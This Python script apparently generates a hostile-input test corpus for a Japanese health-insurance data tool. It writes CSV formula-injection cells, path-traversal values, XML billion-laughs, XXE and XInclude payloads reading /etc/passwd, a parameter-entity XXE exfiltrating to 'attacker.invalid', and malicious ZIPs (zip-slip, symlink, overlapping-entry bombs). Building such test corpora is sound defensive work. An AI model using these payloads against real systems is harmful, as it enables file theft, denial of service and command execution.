#!/usr/bin/env python3
"""Writes the hostile-input corpus (Tests/hostile/): small files that try to break kenpo's readers.

    python3 Tests/hostile/make-corpus.py

Every file is listed in expected.tsv with the command that reads it and what kenpo must do with it.
Big inputs (the 2 GB gzip bomb, the 100 MB CSV field, 10,000-deep nesting, the huge attribute) are
not here: HostileInputEndToEndTests writes them into a temporary folder when it runs. The output is
deterministic (ZIP timestamps fixed), so rerunning the script changes nothing.
"""
import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))

TSUBAME = "06279996"
KAMOME = "06139992"
TSUBAME_HEADER = "個人管理番号,保険者番号,被保険者証記号,被保険者証番号,枝番,氏名カナ,氏名,生年月日,性別,本人家族,資格取得年月日,資格喪失年月日,郵便番号,住所"
KAMOME_HEADER = "保険者番号,記号,番号,枝番,ｶﾅ氏名,漢字氏名,性別,生年月日,続柄区分,資格取得日,資格喪失日,郵便番号,住所1,住所2,旧保険者番号,旧記号,旧番号"
MAILING_HEADER = "保険者番号,記号,番号,枝番,カナ氏名,氏名,生年月日,郵便番号,住所1,住所2,送付先区分"
BOM = b"\xef\xbb\xbf"
PASSWD = "file:///etc/passwd"


def write(name, data):
    path = os.path.join(HERE, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path, "wb") as f:
        f.write(data)


def crlf(lines):
    return "".join(l + "\r\n" for l in lines)


def tsubame_row(ref, number, kana, kanji="試験　太郎", birth="19900101", symbol="90", extra=None):
    row = [ref, TSUBAME, symbol, number, "00", kana, kanji, birth, "男", "本人", "2020/04/01", "", "1500001", "東京都渋谷区神宮前9-9-9"]
    if extra:
        for i, v in extra.items():
            row[i] = v
    return ",".join(row)


def kamome_row(number, kana, kanji="試験　花子", birth="3550102", symbol="9001"):
    return ",".join([KAMOME, symbol, number, "00", kana, kanji, "2", birth, "1", "平成14年4月1日", "", "1000001",
                     "東京都千代田区千代田9-9", "", "", "", ""])


def tsubame_roster(rows, bom=True):
    return (BOM if bom else b"") + crlf([TSUBAME_HEADER] + rows).encode("utf-8")


def kamome_roster(rows):
    return crlf([KAMOME_HEADER] + rows).encode("cp932")


GOOD_TSUBAME_ROWS = [
    tsubame_row("H000000001", "1001", "ハジメ　タロウ"),
    tsubame_row("H000000002", "1002", "ハジメ　ジロウ"),
]


# ---------------------------------------------------------------------------------------------
# Companions: clean files given in the same command as a hostile one; they must still be accepted.

def good_files():
    with open(os.path.join(ROOT, "samples/rosters/kamome-day1.csv"), "rb") as f:
        kamome = f.read().split(b"\r\n")
    write("good/kamome-roster-good.csv", b"\r\n".join(kamome[:11]) + b"\r\n")   # header + the 10 clean rows
    with open(os.path.join(ROOT, "samples/rosters/tsubame-day1.csv"), "rb") as f:
        tsubame = f.read().split(b"\r\n")
    write("good/tsubame-roster-good.csv", b"\r\n".join(tsubame[:6]) + b"\r\n")  # header + 5 clean rows
    with open(os.path.join(ROOT, "samples/mailing/kamome-mailing.csv"), "rb") as f:
        mailing = f.read().split(b"\r\n")
    write("good/kamome-mailing-good.csv", b"\r\n".join(mailing[:3]) + b"\r\n")  # 山田 恭子, 山田 太郎
    with open(os.path.join(ROOT, "samples/mailing/tsubame-mailing.csv"), "rb") as f:
        mailing = f.read().split(b"\r\n")
    write("good/tsubame-mailing-good.csv", b"\r\n".join(mailing[:3]) + b"\r\n")  # 佐藤 陽翔, 佐藤 結衣
    write("good/reissue-good.csv", crlf(["person_id,ticket,reason,postal_code,address1,address2",
                                         "63816c70bf53c263,T-9001,lost,,,"]))
    write("good/checkup-suzuki.xml", good_checkup())
    write("good/delete-good.csv", crlf(["request_id,person_id,requested_at",
                                        "DEL-9001,1d18ed023e17ccd0,2026-11-20T10:00:00+09:00"]))


# ---------------------------------------------------------------------------------------------
# Rosters (kenpo eligibility --profile NAME FILE)

def rosters():
    write("roster/empty.csv", b"")
    write("roster/bom-only.csv", BOM)
    write("roster/header-only.csv", BOM + (TSUBAME_HEADER + "\r\n").encode())
    # Every row is another insurer's (かもめ's number under つばめ's profile): a misdirected hand-off.
    write("roster/insurer-mismatch.csv", tsubame_roster([
        tsubame_row("X000000001", "2001", "ベツノ　イチ", extra={1: KAMOME}),
        tsubame_row("X000000002", "2002", "ベツノ　ニ", extra={1: KAMOME}),
        tsubame_row("X000000003", "2003", "ベツノ　サン", extra={1: KAMOME}),
    ]))
    # NUL bytes: in the kana name, in the number, and a whole row of NULs.
    nul = tsubame_roster([GOOD_TSUBAME_ROWS[0]]) + (
        tsubame_row("N000000001", "3001", "ヌル\x00ヌル") + "\r\n" +
        tsubame_row("N000000002", "30\x0002", "ヌル　ニ") + "\r\n").encode() + b"\x00" * 64 + b"\r\n"
    write("roster/nul-bytes.csv", nul)
    # CP932 (かもめ): bytes that cannot start a character, and a lead byte without its trail byte.
    rows = [kamome_row("8001", "ｶｷｸ ｹｺ").encode("cp932")]
    for i, bad in enumerate([b"\x80", b"\xa0", b"\xfd", b"\xfe", b"\xff", b"\x81\x20", b"\x82"]):
        kana = "ｶﾅ".encode("cp932") + bad + ("ﾅ" if i < 6 else "").encode("cp932")
        rows.append(kamome_row(str(8100 + i), "X").encode("cp932").replace(b",X,", b"," + kana + b",", 1))
    write("roster/cp932-invalid-lead-bytes.csv", (KAMOME_HEADER + "\r\n").encode("cp932") + b"\r\n".join(rows) + b"\r\n")
    # UTF-16 without any declaration, for a profile that says UTF-8.
    text = crlf([TSUBAME_HEADER] + GOOD_TSUBAME_ROWS)
    write("roster/utf16le-bom.csv", b"\xff\xfe" + text.encode("utf-16-le"))
    write("roster/utf16le-no-bom.csv", text.encode("utf-16-le"))
    write("roster/utf16be-no-bom.csv", text.encode("utf-16-be"))
    # Mixed line ends: CRLF, LF, lone CR, and a quoted address holding CR LF and LF. The bad date sits
    # on physical line 7 (the quoted address spans lines 5-6), which rejects.csv must name.
    lines = [TSUBAME_HEADER + "\r\n",
             tsubame_row("L000000001", "4001", "ギョウ　イチ") + "\n",
             tsubame_row("L000000002", "4002", "ギョウ　ニ") + "\r",
             tsubame_row("L000000003", "4003", "ギョウ　サン", extra={13: '"東京都\r\n渋谷区\n神宮前9"'}) + "\r\n",
             tsubame_row("L000000004", "4004", "ギョウ　ヨン", birth="19900230") + "\n",
             tsubame_row("L000000005", "4005", "ギョウ　ゴ") + "\r"]
    write("roster/mixed-line-endings.csv", BOM + "".join(lines).encode())
    # A row with 10,000 columns between two good ones.
    wide = ",".join(["x"] * 10_000)
    write("roster/10000-columns.csv", tsubame_roster([GOOD_TSUBAME_ROWS[0], wide, GOOD_TSUBAME_ROWS[1]]))
    # Dates that do not exist, in every spelling かもめ's profile accepts.
    write("roster/reiwa-99-13-45.csv", kamome_roster([
        kamome_row("8201", "ﾋﾂﾞｹ ｲﾁ", birth="令和99年13月45日"),
        kamome_row("8202", "ﾋﾂﾞｹ ﾆ", birth="R99.13.45"),
        kamome_row("8203", "ﾋﾂﾞｹ ｻﾝ", birth="5991345"),
        kamome_row("8204", "ﾋﾂﾞｹ ﾖﾝ", birth="昭和55年1月2日"),
    ]))
    # Control characters in the kana name (BEL, ESC, DEL, C1 NEL, a terminal escape sequence).
    write("roster/control-chars-kana.csv", tsubame_roster([
        tsubame_row("C000000001", "5001", "サトウ\x07ハナ"),
        tsubame_row("C000000002", "5002", "\x1b[2Jサトウ"),
        tsubame_row("C000000003", "5003", "サトウ\x7fハナ"),
        tsubame_row("C000000004", "5004", "サトウ\u0085ハナ"),
        GOOD_TSUBAME_ROWS[0],
    ]))
    # Control characters in the kanji name: a terminal escape that clears the screen, BEL, a bidi
    # override that shows the name reversed, and a CR.
    write("roster/control-chars-kanji.csv", tsubame_roster([
        tsubame_row("C000000011", "5011", "サトウ　イチ", kanji="\x1b]0;pwned\x07\x1b[2J佐藤"),
        tsubame_row("C000000012", "5012", "サトウ　ニ", kanji="佐藤\u202e郎次"),
        tsubame_row("C000000013", "5013", "サトウ　サン", kanji='"佐藤\r三郎"'),
    ]))
    # Quotes: doubled quotes nested 2,000 deep inside a quoted kana name (well-formed CSV, not kana),
    # then a field whose quote never closes (it swallows the rest of the file).
    nested = '"' + '""' * 2000 + "サトウ" + '""' * 2000 + '"'
    write("roster/nested-quotes.csv", tsubame_roster([
        GOOD_TSUBAME_ROWS[0],
        tsubame_row("Q000000001", "6001", nested),
        tsubame_row("Q000000002", "6002", '"サトウ""""ハナ"""""""'),
        tsubame_row("Q000000003", "6003", '"サトウ"ハナ'),
        GOOD_TSUBAME_ROWS[1],
        tsubame_row("Q000000004", "6004", '"サトウ ハナ'),
        tsubame_row("Q000000005", "6005", "サトウ　ゴ"),
    ]))
    # Byte-order marks: two UTF-8 BOMs; a UTF-8 BOM on a CP932 file (accepted); a BOM in mid-file,
    # at the start of a row (it would make "\ufeffB0…" a member reference of its own).
    write("roster/bom-double.csv", BOM + tsubame_roster(GOOD_TSUBAME_ROWS))
    write("roster/bom-utf8-on-cp932.csv", BOM + kamome_roster([kamome_row("8301", "ﾎﾞﾑ ｲﾁ")]))
    write("roster/bom-mid-file.csv", tsubame_roster([tsubame_row("B000000001", "7001", "ボム　イチ")]) +
          BOM + (tsubame_row("B000000002", "7002", "ボム　ニ") + "\r\n").encode())
    write("roster/utf32le-bom.csv", b"\xff\xfe\x00\x00" + crlf([TSUBAME_HEADER] + GOOD_TSUBAME_ROWS).encode("utf-32-le"))
    # A spreadsheet formula in cells that come back to the insurer and into rejects.csv.
    write("roster/formula-injection.csv", tsubame_roster([
        tsubame_row("F000000001", "8001", "=cmd|' /C calc'!A0"),
        tsubame_row("F000000002", "8002", "サトウ　ハナ", extra={1: "=cmd|' /C calc'!A0"}),
        tsubame_row("@SUM(1+1)*cmd|' /C calc'!A0", "8003", "サトウ　ハナ", extra={7: "+1+1"}),
    ]))


# ---------------------------------------------------------------------------------------------
# Mailing lists (kenpo codes --profile NAME FILE), reissue, deletion and export requests

def mailing_row(insurer, symbol, number, branch, kana, name, birth, postal="150-0001", a1="東京都渋谷区神宮前1-1-1", a2=""):
    return ",".join([insurer, symbol, number, branch, kana, name, birth, postal, a1, a2, "自宅"])


def requests():
    haruto = dict(insurer=TSUBAME, symbol="ア12", number="0001234", branch="00", kana="サトウハルト", birth="19900415")
    misaki = dict(insurer=TSUBAME, symbol="ア12", number="0001234", branch="01", kana="サトウミサキ", birth="19920302")
    yui = dict(insurer=TSUBAME, symbol="ア12", number="0001234", branch="02", kana="サトウユイ", birth="20190510")
    formula = "=cmd|' /C calc'!A0"
    write("mailing/formula-injection.csv", BOM + crlf([
        MAILING_HEADER,
        mailing_row(name=formula, a2='"=HYPERLINK(""http://x.invalid"",""x"")"', **haruto),   # accepted: neutralised on the postcard
        mailing_row(TSUBAME, "99", "999", "00", "ダレモイナイ", formula, "19800101"),          # PERSON_UNKNOWN: handed back
        mailing_row(formula, "ア12", "0001234", "01", "サトウミサキ", "佐藤　美咲", "19920302"),  # INSURER_MISMATCH: key in rejects.csv
    ]).encode())
    write("mailing/control-chars.csv", BOM + crlf([
        MAILING_HEADER,
        mailing_row(name="\x1b[2J佐藤\x07陽翔", **haruto),
        mailing_row(name="佐藤　美咲", a1="東京都渋谷区\x1b[31m神宮前1-1-1", **misaki),
    ]).encode())
    write("mailing/nul-bytes.csv", BOM + crlf([
        MAILING_HEADER,
        mailing_row(name="佐藤\x00陽翔", **haruto),
        mailing_row(name="佐藤　結衣", a1="東京都渋谷区\x00神宮前1-1-1", **yui),
    ]).encode())
    write("mailing/empty.csv", b"")
    write("mailing/utf16le-bom.csv", b"\xff\xfe" + crlf([MAILING_HEADER, mailing_row(name="佐藤　陽翔", **haruto)]).encode("utf-16-le"))
    write("mailing/cp932-invalid-bytes.csv", (MAILING_HEADER + "\r\n").encode("cp932") +
          mailing_row(KAMOME, "1001", "0012345678", "00", "ﾔﾏﾀﾞｷﾖｳｺ", "X", "3550102").encode("cp932").replace(b",X,", b",\x81\x20\xff\x80,") + b"\r\n")

    write("reissue/hostile-rows.csv", crlf([
        "person_id,ticket,reason,postal_code,address1,address2",
        "../../../etc/passwd,T-1,lost,,,",
        "=cmd|' /C calc'!A0,T-2,lost,,,",
        "aee18e008e288d81\x00,T-3,lost,,,",
        "aee18e008e288d81,,lost,,,",
    ]).encode() + b"\xff\xfe,T-6,lost,,,\r\n" + b'aee18e008e288d81,T-5,"lost,,,\r\n')
    write("reissue/empty.csv", b"")
    write("reissue/utf16le-bom.csv", b"\xff\xfe" + crlf(["person_id,ticket,reason,postal_code,address1,address2",
                                                          "aee18e008e288d81,T-1,lost,,,"]).encode("utf-16-le"))

    write("delete/hostile-rows.csv", crlf([
        "request_id,person_id,requested_at",
        "../../../etc/passwd,ffffffffffffffff,2026-11-20",
        "DEL-1,=cmd|' /C calc'!A0,2026-11-20",
        "DEL-2,1d18ed023e17ccd0,令和99年13月45日",
        "DEL-3,1d18ed023e17ccd0,2026-13-45",
        "DEL-4,1d18ed023e17ccd0",
    ]).encode() + b"DEL-6,\xff\xfe\xfd,2026-11-20\r\n" + b'DEL-5,"1d18ed023e17ccd0,2026-11-20\r\n')
    write("delete/empty.csv", b"")

    write("export/hostile-rows.csv", crlf([
        "request_id,person_id",
        "EXP-1,../../../../etc/passwd",
        "EXP-2,1d18ed023e17ccd0/../../x",
        "EXP-3,",
        ",1d18ed023e17ccd0",
        "EXP-5,1d18ed023e17ccd0,extra",
        "EXP-6,=cmd|' /C calc'!A0",
    ]))
    write("export/empty.csv", b"")


# ---------------------------------------------------------------------------------------------
# XML documents (kenpo import)

def good_checkup():
    import zipfile
    with zipfile.ZipFile(os.path.join(ROOT, "samples/health/insurer/kamome-transfer-20260915.zip")) as z:
        return z.read("DATA/h0613999220260903000003.xml").decode("utf-8")


def with_doctype(doc, doctype):
    head, rest = doc.split("\n", 1)   # after the XML declaration
    return head + "\n" + doctype + "\n" + rest


def xml_docs():
    doc = good_checkup()
    lol = ['<!ENTITY lol "lol">'] + ['<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % (i - 1 if i > 1 else "")) * 10) for i in range(1, 10)]
    lol = [l.replace("&lol0;", "&lol;") for l in lol]
    write("xml/billion-laughs.xml", with_doctype(doc, "<!DOCTYPE ClinicalDocument [\n  " + "\n  ".join(lol) + "\n]>").replace(
        "<title>特定健康診査結果報告</title>", "<title>&lol9;</title>"))
    write("xml/xxe-file-etc-passwd.xml", with_doctype(doc, '<!DOCTYPE ClinicalDocument [ <!ENTITY xxe SYSTEM "%s"> ]>' % PASSWD).replace(
        "<name>スズキ イチロウ</name>", "<name>&xxe;</name>"))
    write("xml/xxe-parameter-entity.xml", with_doctype(doc,
        '<!DOCTYPE ClinicalDocument [\n  <!ENTITY %% file SYSTEM "%s">\n  <!ENTITY %% eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.invalid/?x=%%file;\'>">\n  %%eval;\n  %%exfil;\n]>' % PASSWD))
    write("xml/doctype-parameter-entities.xml", with_doctype(doc,
        '<!DOCTYPE ClinicalDocument [\n  <!ENTITY % a "<!ENTITY b \'bbbbbbbbbbbbbbbb\'>">\n  %a;\n  <!ENTITY % c "<!ENTITY d \'&b;&b;&b;&b;&b;&b;&b;&b;\'>">\n  %c;\n]>').replace(
        "<title>特定健康診査結果報告</title>", "<title>&d;</title>"))
    write("xml/doctype-external-dtd.xml", with_doctype(doc, '<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.invalid/hc08.dtd">'))
    write("xml/doctype-public-passwd.xml", with_doctype(doc, '<!DOCTYPE ClinicalDocument PUBLIC "-//X//Y" "%s">' % PASSWD))
    write("xml/undeclared-entity.xml", doc.replace("<name>スズキ イチロウ</name>", "<name>&xxe;</name>"))
    write("xml/xinclude-etc-passwd.xml", doc.replace(
        '<ClinicalDocument xmlns="urn:hl7-org:v3"',
        '<ClinicalDocument xmlns:xi="http://www.w3.org/2001/XInclude" xmlns="urn:hl7-org:v3"').replace(
        "<title>特定健康診査結果報告</title>", '<title><xi:include href="%s" parse="text"/></title>' % PASSWD))
    # UTF-16 without an XML declaration: with a BOM that is well-formed XML (accepted); without one
    # the bytes are not UTF-8 and nothing says otherwise (rejected).
    body = doc.split("\n", 1)[1]
    write("xml/utf16le-bom-no-declaration.xml", b"\xff\xfe" + body.encode("utf-16-le"))
    write("xml/utf16le-no-bom-no-declaration.xml", body.encode("utf-16-le"))
    write("xml/utf16be-no-bom-no-declaration.xml", body.encode("utf-16-be"))
    write("xml/declares-utf16-is-utf8.xml", doc.replace('encoding="UTF-8"', 'encoding="UTF-16"'))
    write("xml/bom-utf8-declares-shift-jis.xml", BOM + doc.replace('encoding="UTF-8"', 'encoding="Shift_JIS"').encode())
    write("xml/shift-jis-invalid-lead-bytes.xml", doc.replace('encoding="UTF-8"', 'encoding="Shift_JIS"').encode("cp932").replace(
        "スズキ".encode("cp932"), b"\xff\x80\xfd"))
    write("xml/nul-bytes.xml", doc.encode().replace("スズキ".encode(), b"\x00\x00\x00"))
    write("xml/control-chars-in-name.xml", doc.replace("<name>スズキ イチロウ</name>", "<name>スズキ&#x1b;イチロウ</name>").replace(
        "<name>かもめ健診センター</name>", "<name>かもめ\x07健診センター</name>", 1))
    write("xml/empty.xml", b"")
    write("xml/whitespace-only.xml", b"   \r\n\t\n")
    write("xml/not-xml-png.xml", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    write("xml/truncated-mid-tag.xml", doc[: doc.index("<documentationOf>") + 12])
    write("xml/two-roots.xml", doc + doc.split("\n", 1)[1])
    # 300 levels: one more than kenpo's limit of 256, small enough to keep.
    write("xml/nesting-300-deep.xml", doc.replace("<text/>", "<text>" + "<list>" * 300 + "</list>" * 300 + "</text>"))
    write("xml/cdata-and-comment-tricks.xml", doc.replace("<name>スズキ イチロウ</name>",
        "<name><![CDATA[スズキ]]><!-- ]]> <!DOCTYPE x [<!ENTITY y SYSTEM '%s'>]> --> イチロウ</name>" % PASSWD))
    # The same element opened a million times is too big to keep; 5,000 attributes on one element is not.
    write("xml/many-attributes.xml", doc.replace('<text/>', "<text " + " ".join('a%d="%d"' % (i, i) for i in range(5_000)) + "/>"))
    write("xml/duplicate-attribute.xml", doc.replace('<effectiveTime value="20260903"/>', '<effectiveTime value="20260903" value="20260904"/>'))


# ---------------------------------------------------------------------------------------------
# gzip

def gzip_files():
    doc = good_checkup().encode()
    c = zlib.compressobj(6, zlib.DEFLATED, 31)
    gz = c.compress(doc) + c.flush()
    write("gzip/truncated.xml.gz", gz[: len(gz) // 2])
    write("gzip/trailing-garbage.xml.gz", gz + b"this is not another gzip member")
    bad_crc = bytearray(gz)
    bad_crc[-8] ^= 0xFF
    write("gzip/bad-crc.xml.gz", bytes(bad_crc))
    write("gzip/header-only.xml.gz", gz[:10])


# ---------------------------------------------------------------------------------------------
# ZIP archives, written byte by byte so every field can lie.

class Entry:
    def __init__(self, name, data, method=8, mode=0o100600, flags=0, declared=None, crc=None, offset=None, cd_name=None):
        self.name = name.encode() if isinstance(name, str) else name
        self.cd_name = (cd_name.encode() if isinstance(cd_name, str) else cd_name) if cd_name is not None else self.name
        self.data = data
        self.method = method
        self.mode = mode
        self.flags = flags
        self.declared = declared
        self.crc = crc
        self.offset = offset


def build_zip(entries, eocd_count=None, cd_offset_delta=0, truncate=None, shared_data=False):
    out = bytearray()
    cd = bytearray()
    shared_offset = None
    for e in entries:
        raw = e.data
        comp = raw if e.method == 0 else zlib.compress(raw, 9)[2:-4]
        crc = zlib.crc32(raw) if e.crc is None else e.crc
        size = len(raw) if e.declared is None else e.declared
        if shared_data and shared_offset is not None:
            offset = shared_offset
        else:
            offset = len(out)
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, e.flags, e.method, 0, 0x5A21, crc, len(comp), size, len(e.name), 0)
            out += e.name + comp
            shared_offset = offset
        if e.offset is not None:
            offset = e.offset
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 20, e.flags, e.method, 0, 0x5A21, crc, len(comp), size,
                          len(e.cd_name), 0, 0, 0, 0, e.mode << 16, offset)
        cd += e.cd_name
    cd_offset = len(out)
    out += cd
    n = len(entries) if eocd_count is None else eocd_count
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_offset + cd_offset_delta, 0)
    if truncate:
        out = out[:truncate(len(out))]
    return bytes(out)


def zips():
    good = good_checkup().encode()
    ok = Entry("DATA/h0613999220260903000003.xml", good)
    write("zip/dotdot-entry.zip", build_zip([Entry("../../../../tmp/kenpo-hostile-escape.xml", good), ok]))
    write("zip/absolute-entry.zip", build_zip([Entry("/tmp/kenpo-hostile-absolute.xml", good), Entry("C:\\Windows\\kenpo.xml", good), ok]))
    write("zip/backslash-dotdot-entry.zip", build_zip([Entry("DATA\\..\\..\\..\\kenpo-hostile.xml", good), ok]))
    write("zip/symlink-entry.zip", build_zip([Entry("DATA/passwd.xml", b"/etc/passwd", method=0, mode=0o120777), ok]))
    write("zip/device-entry.zip", build_zip([Entry("DATA/zero.xml", b"", method=0, mode=0o020666), ok]))
    whole = build_zip([ok, Entry("ix08_V08.xml", b"<index/>")])
    write("zip/truncated.zip", whole[: len(whole) // 2])
    write("zip/truncated-central-directory.zip", whole[:-30])
    # The central directory lies: an entry that inflates far beyond the size it declares, a wrong
    # CRC-32, an entry count larger than the directory, a directory offset pointing into the data,
    # and a local header whose name is not the one the directory gives.
    write("zip/cd-lies-size.zip", build_zip([Entry("DATA/bomb.xml", good + b" " * 1_000_000, declared=len(good)), ok]))
    write("zip/cd-lies-crc.zip", build_zip([Entry("DATA/crc.xml", good, crc=0x12345678), ok]))
    write("zip/cd-lies-count.zip", build_zip([ok], eocd_count=50))
    write("zip/cd-lies-offset.zip", build_zip([ok, Entry("DATA/second.xml", good)], cd_offset_delta=-40))
    write("zip/cd-lies-entry-offset.zip", build_zip([ok, Entry("DATA/elsewhere.xml", good, offset=10_000_000)]))
    write("zip/local-name-differs.zip", build_zip([Entry("../../evil.xml", good, cd_name="DATA/innoc.xml"), ok]))
    # Overlapping entries: ten directory entries share one local file (the "overlapping files" bomb).
    write("zip/overlapping-entries.zip", build_zip([Entry("DATA/o%d.xml" % i, good) for i in range(10)], shared_data=True))
    write("zip/duplicate-names.zip", build_zip([Entry("DATA/same.xml", good), Entry("DATA/same.xml", good), ok]))
    write("zip/encrypted-entry.zip", build_zip([Entry("DATA/secret.xml", good, flags=1), ok]))
    write("zip/declares-4gb.zip", build_zip([Entry("DATA/huge.xml", good, declared=0xFFFF_FFF0), ok]))
    write("zip/nested-zip.zip", build_zip([Entry("DATA/inner.xml", build_zip([ok]), method=0), ok]))
    write("zip/unknown-method.zip", build_zip([Entry("DATA/lzma.xml", good, method=14), ok]))


if __name__ == "__main__":
    good_files()
    rosters()
    requests()
    xml_docs()
    gzip_files()
    zips()
